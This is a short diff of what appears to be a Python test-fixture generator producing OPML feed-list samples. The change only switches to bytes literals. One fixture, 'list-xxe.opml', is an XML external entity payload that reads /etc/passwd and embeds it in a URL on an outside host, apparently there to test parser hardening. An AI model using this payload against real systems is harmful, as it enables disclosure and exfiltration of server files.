@@ -434,9 +434,9 @@ def lists() -> Iterator[tuple[str, bytes]]:
     yield (
         "list-xxe.opml",
         (
-            '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body>'
-            '<outline text="&x;" xmlUrl="https://c.example/&x;"/></body></opml>'
-        ).encode(),
+            b'<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body>'
+            b'<outline text="&x;" xmlUrl="https://c.example/&x;"/></body></opml>'
+        ),
     )
     yield "list-none.opml", b"<opml><body></body></opml>"
     yield "list-broken.opml", b"<opml><body><outline xmlUrl='https://d.example/f'/><outline"
